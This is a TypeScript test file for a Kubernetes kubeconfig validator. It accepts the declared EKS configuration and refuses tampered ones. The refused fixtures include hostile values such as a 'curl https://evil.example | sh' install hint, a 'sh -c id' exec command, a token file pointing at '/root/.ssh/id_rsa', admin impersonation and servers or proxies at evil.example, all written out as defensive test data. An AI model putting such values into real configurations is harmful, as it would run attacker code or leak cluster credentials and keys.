import { KUBECONFIG } from "../../../policies/declared/cluster.ts";
import { situation } from "../../support/policy-fixtures.ts";
import { kubeconfigOf, type User } from "../../support/policy-kubeconfig.ts";

const world = { ...situation(), bound: {} };
const accepts = (value: unknown) => KUBECONFIG.accepts(value, world);
const changed = (path: readonly string[], value: unknown) => {
  const config = JSON.parse(kubeconfigOf());
  const last = path.at(-1) ?? "";
  const parent = path.slice(0, -1).reduce<object>((found, key) => Object(Reflect.get(found, key)), config);
  Reflect.set(parent, last, value);
  return JSON.stringify(config);
};
const exec = (more: object): User => ({
  exec: {
    apiVersion: "client.authentication.k8s.io/v1beta1",
    command: "aws",
    args: ["eks", "get-token", "--cluster-name", "sparki-prod"],
    ...more,
  },
});
const CLUSTER = ["clusters", "0", "cluster"];
const USER = ["users", "0", "user"];

describe("KUBECONFIG", () => {
  it.each([
    ["EKS's own", kubeconfigOf()],
    [
      "one without the region",
      kubeconfigOf(exec({ args: ["eks", "get-token", "--cluster-name", "sparki-prod", "--output", "json"] })),
    ],
    [
      "one with the protocol's variable",
      kubeconfigOf(
        exec({
          env: [{ name: "KUBERNETES_EXEC_INFO", value: '{"apiVersion": "client.authentication.k8s.io/v1beta1"}' }],
        }),
      ),
    ],
    [
      "a rehearsal's",
      changed([...CLUSTER, "server"], "https://127.35.3.1:6443").replace(
        /"user":\{"exec".*\}\}/,
        '"user":{"token":"0abc"}}',
      ),
    ],
  ])("accepts %s", (_, text) => expect(accepts(text)).toBe(true));

  it.each([
    ["another command", kubeconfigOf(exec({ command: "/tmp/evil" }))],
    ["a shell", kubeconfigOf(exec({ command: "sh", args: ["-c", "id"] }))],
    ["another cluster's token", kubeconfigOf(exec({ args: ["eks", "get-token", "--cluster-name", "evil"] }))],
    ["another action of AWS", kubeconfigOf(exec({ args: ["s3", "cp", "--cluster-name", "sparki-prod"] }))],
    [
      "another endpoint of AWS",
      kubeconfigOf(
        exec({ args: ["eks", "get-token", "--cluster-name", "sparki-prod", "--endpoint-url", "https://evil.example"] }),
      ),
    ],
    [
      "a foreign role",
      kubeconfigOf(exec({ args: ["eks", "get-token", "--cluster-name", "sparki-prod", "--role-arn", "arn"] })),
    ],
    [
      "another region's cluster",
      kubeconfigOf(exec({ args: ["--region", "eu-west-1", "eks", "get-token", "--cluster-name", "sparki-prod"] })),
    ],
    [
      "a file of settings",
      kubeconfigOf(exec({ args: ["--profile", "evil", "eks", "get-token", "--cluster-name", "sparki-prod"] })),
    ],
    ["a variable of the command", kubeconfigOf(exec({ env: [{ name: "PATH", value: "/tmp/evil" }] }))],
    ["a hint that people run", kubeconfigOf(exec({ installHint: "curl https://evil.example | sh" }))],
    [
      "a plugin of another kind",
      kubeconfigOf({ "auth-provider": { name: "gcp", config: { "cmd-path": "/tmp/evil" } } }),
    ],
    ["a password", kubeconfigOf({ username: "a", password: "b" })],
    ["a file of the machine", kubeconfigOf({ tokenFile: "/root/.ssh/id_rsa" })],
    ["somebody who is acted for", changed([...USER, "as"], "system:admin")],
    ["another server", changed([...CLUSTER, "server"], "https://evil.example")],
    ["another region", changed([...CLUSTER, "server"], "https://0123456789ABCDEF.gr7.eu-west-1.eks.amazonaws.com")],
    [
      "a server with a path",
      changed([...CLUSTER, "server"], "https://0123456789ABCDEF.gr7.us-east-1.eks.amazonaws.com@evil.example"),
    ],
    ["a server without TLS", changed([...CLUSTER, "server"], "http://127.0.0.1:8080")],
    ["no verification", changed([...CLUSTER, "insecure-skip-tls-verify"], true)],
    ["a proxy", changed([...CLUSTER, "proxy-url"], "http://evil.example")],
    ["an authority of the machine", changed([...CLUSTER, "certificate-authority"], "/tmp/evil.pem")],
    ["one more user", changed(["users", "1"], { name: "b", user: {} })],
    ["another context", changed(["current-context"], "evil")],
    ["an extension", changed(["extensions"], [])],
    ["YAML", "apiVersion: v1"],
    ["nothing", ""],
    ["no text", {}],
  ])("refuses %s", (_, value) => expect(accepts(value)).toBe(false));
});
